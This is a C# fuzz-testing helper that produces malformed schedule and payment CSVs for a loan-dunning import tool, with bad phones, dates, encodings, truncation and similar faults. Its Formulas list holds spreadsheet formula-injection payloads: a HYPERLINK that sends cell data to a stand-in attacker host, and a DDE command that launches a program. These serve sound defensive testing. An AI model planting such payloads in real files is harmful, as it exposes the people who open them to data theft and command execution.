using System.Text;

namespace Dunning.Local.Diagnostics.Fuzz;

/// <summary>
/// Seeded mutations of a valid schedule or payments CSV: row-local ones (invalid phone, negative amount, bad date,
/// formula cell, huge field, 10,000-column row, stray quote, GBK bytes, duplicate row, unknown loan, blank lines,
/// a huge value in the ignored <c>notes</c> column every file carries) whose effect on each line is known, and
/// file-level ones (BOM, UTF-16, truncation, unclosed quote, semicolons or tabs instead of commas).
/// </summary>
public static class CsvMutator
{
    public static readonly IReadOnlyList<string> Formulas =
    [
        "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click to verify\")",
        "=1+2",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
    ];

    private static readonly string[] BadPhones = ["12345", "+86 000", "not-a-phone", "+861391234", "13800000000000000"];
    private static readonly string[] BadDates = ["2026-02-30", "31/12/2026", "tomorrow", "2026-13-01", "20261201"];
    private static readonly string[] BadInstants = ["2026-02-30T10:00:00Z", "yesterday", "12/31/2026 10:00", "2026-12-01T25:00:00Z"];

    private delegate bool RowMutation(CsvKind kind, string[] fields, Random random, out byte[] line);

    private static readonly (string Name, RowMutation Apply)[] RowMutations =
    [
        ("invalid-phone", InvalidPhone),
        ("negative-amount", NegativeAmount),
        ("bad-date", BadDate),
        ("formula-cell", FormulaCell),
        ("huge-field", HugeField),
        ("10000-columns", WideRow),
        ("stray-quote", StrayQuote),
        ("gbk-bytes", GbkBytes),
        ("unknown-loan", UnknownLoan),
    ];

    /// <summary>A column the ingest does not know: documented as ignored, so no value in it may reject a row.</summary>
    public const string IgnoredColumn = "notes";

    /// <summary>Mutates <paramref name="rows"/> (valid rows, each a field array in <paramref name="header"/>'s order).</summary>
    public static MutatedCsv Mutate(CsvKind kind, IReadOnlyList<string> header, IReadOnlyList<string[]> rows, Random random)
    {
        ArgumentNullException.ThrowIfNull(header);
        ArgumentNullException.ThrowIfNull(rows);
        ArgumentNullException.ThrowIfNull(random);
        var mutations = new List<string>();
        var lines = new List<FuzzLine> { new(Utf8(string.Join(',', [.. header, IgnoredColumn])), LineExpectation.Header) };
        var targets = Enumerable.Range(0, rows.Count).OrderBy(_ => random.Next()).Take(random.Next(1, Math.Min(4, rows.Count + 1))).ToHashSet();
        for (var i = 0; i < rows.Count; i++)
        {
            string[] fields = [.. rows[i], "call after 6pm"];
            if (random.NextDouble() < 0.08)
            {
                mutations.Add("huge-ignored-value");
                fields[^1] = new string('y', random.Next(3_000, 200_000));
            }

            if (targets.Contains(i) && TryRowMutation(kind, fields, random, out var name, out var mutated))
            {
                mutations.Add(name);
                lines.Add(new FuzzLine(mutated, LineExpectation.Bad));
                continue;
            }

            lines.Add(new FuzzLine(Utf8(Join(fields)), LineExpectation.Good));
            if (random.NextDouble() < 0.08)
            {
                // A repeated schedule row is rejected; a repeated payment is the same payment, applied once and reported.
                mutations.Add("duplicate-row");
                lines.Add(new FuzzLine(Utf8(Join(fields)), kind == CsvKind.Schedule ? LineExpectation.Bad : LineExpectation.Duplicate));
            }

            if (random.NextDouble() < 0.08)
            {
                mutations.Add("blank-line");
                lines.Add(new FuzzLine(Utf8(random.Next(2) == 0 ? "" : new string(',', header.Count)), LineExpectation.Blank));
            }
        }

        var structural = false;
        var separator = random.NextDouble() < 0.2 ? "\n" : "\r\n";
        byte[] content;
        switch (random.Next(10))
        {
            case 0:
                mutations.Add("utf8-bom");
                content = [0xEF, 0xBB, 0xBF, .. Assemble(lines, separator)];
                break;
            case 1 when !mutations.Contains("gbk-bytes"):
                mutations.Add("utf16-bom");
                content = [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Encoding.UTF8.GetString(Assemble(lines, separator)))];
                break;
            case 2:
                mutations.Add("utf16-without-bom");
                structural = true;
                content = Encoding.Unicode.GetBytes(Encoding.UTF8.GetString(Assemble(lines, separator)));
                break;
            case 3:
                mutations.Add("truncated");
                structural = true;
                var whole = Assemble(lines, separator);
                var headerLength = lines[0].Bytes.Length + separator.Length;
                content = whole[..random.Next(headerLength, whole.Length)];
                break;
            case 4 when lines.Count > 2:
                mutations.Add("unclosed-quote");
                structural = true;
                var at = random.Next(1, lines.Count);
                lines[at] = lines[at] with { Bytes = [.. Utf8("\"unclosed,"), .. lines[at].Bytes] };
                content = Assemble(lines, separator);
                break;
            case 5:
                var (delimiter, delimiterName) = random.Next(2) == 0 ? (";", "semicolon-separated") : ("\t", "tab-separated");
                mutations.Add(delimiterName);
                structural = true;
                content = Utf8(Encoding.UTF8.GetString(Assemble(lines, separator)).Replace(",", delimiter, StringComparison.Ordinal));
                break;
            default:
                content = Assemble(lines, separator);
                break;
        }

        return new MutatedCsv(content, mutations, lines, structural);
    }

    private static bool TryRowMutation(CsvKind kind, string[] fields, Random random, out string name, out byte[] line)
    {
        foreach (var (candidate, apply) in RowMutations.OrderBy(_ => random.Next()))
        {
            if (apply(kind, fields, random, out line))
            {
                name = candidate;
                return true;
            }
        }

        name = "";
        line = [];
        return false;
    }

    private static bool InvalidPhone(CsvKind kind, string[] fields, Random random, out byte[] line) =>
        Replace(kind == CsvKind.Schedule ? 4 : -1, fields, BadPhones[random.Next(BadPhones.Length)], out line);

    private static bool NegativeAmount(CsvKind kind, string[] fields, Random random, out byte[] line)
    {
        var column = kind == CsvKind.Schedule ? 7 : 2;
        return Replace(column, fields, random.Next(2) == 0 ? "-" + fields[column] : "0", out line);
    }

    private static bool BadDate(CsvKind kind, string[] fields, Random random, out byte[] line) => kind == CsvKind.Schedule
        ? Replace(9, fields, BadDates[random.Next(BadDates.Length)], out line)
        : Replace(3, fields, BadInstants[random.Next(BadInstants.Length)], out line);

    private static bool FormulaCell(CsvKind kind, string[] fields, Random random, out byte[] line)
    {
        int[] columns = kind == CsvKind.Schedule ? [0, 2, 3] : [0];
        return Replace(columns[random.Next(columns.Length)], fields, Formulas[random.Next(Formulas.Count)], out line);
    }

    private static bool HugeField(CsvKind kind, string[] fields, Random random, out byte[] line) =>
        Replace(kind == CsvKind.Schedule ? 3 : 0, fields, new string('x', random.Next(3_000, 200_000)), out line);

    private static bool WideRow(CsvKind kind, string[] fields, Random random, out byte[] line)
    {
        var wide = new StringBuilder(Join(fields));
        for (var i = 0; i < 10_000; i++)
        {
            wide.Append(",c").Append(i % 10);
        }

        line = Utf8(wide.ToString());
        return true;
    }

    private static bool StrayQuote(CsvKind kind, string[] fields, Random random, out byte[] line)
    {
        var column = kind == CsvKind.Schedule ? 3 : 0;
        var copy = (string[])fields.Clone();
        copy[column] = "";
        var text = Join(copy);
        var parts = text.Split(',');
        parts[column] = fields[column][..1] + "\"" + fields[column][1..];
        line = Utf8(string.Join(',', parts));
        return true;
    }

    /// <summary>A Chinese name saved as GBK (张伟 = D5 C5 CE B0) in an otherwise UTF-8 file.</summary>
    private static bool GbkBytes(CsvKind kind, string[] fields, Random random, out byte[] line)
    {
        if (kind != CsvKind.Schedule)
        {
            line = [];
            return false;
        }

        var copy = (string[])fields.Clone();
        copy[3] = "\u0001";
        var parts = Utf8(Join(copy));
        var marker = Array.IndexOf(parts, (byte)0x01);
        line = [.. parts[..marker], 0xD5, 0xC5, 0xCE, 0xB0, .. parts[(marker + 1)..]];
        return true;
    }

    private static bool UnknownLoan(CsvKind kind, string[] fields, Random random, out byte[] line) =>
        Replace(kind == CsvKind.Payments ? 0 : -1, fields, "NOPE-" + random.Next(1_000_000), out line);

    private static bool Replace(int column, string[] fields, string value, out byte[] line)
    {
        if (column < 0)
        {
            line = [];
            return false;
        }

        var copy = (string[])fields.Clone();
        copy[column] = value;
        line = Utf8(Join(copy));
        return true;
    }

    /// <summary>RFC 4180: a field with a comma, quote or line break is quoted, its quotes doubled.</summary>
    public static string Join(IEnumerable<string> fields) =>
        string.Join(',', fields.Select(f => f.IndexOfAny([',', '"', '\r', '\n']) >= 0 ? "\"" + f.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"" : f));

    private static byte[] Assemble(IReadOnlyList<FuzzLine> lines, string separator)
    {
        using var buffer = new MemoryStream();
        var newline = Utf8(separator);
        foreach (var line in lines)
        {
            buffer.Write(line.Bytes);
            buffer.Write(newline);
        }

        return buffer.ToArray();
    }

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);
}
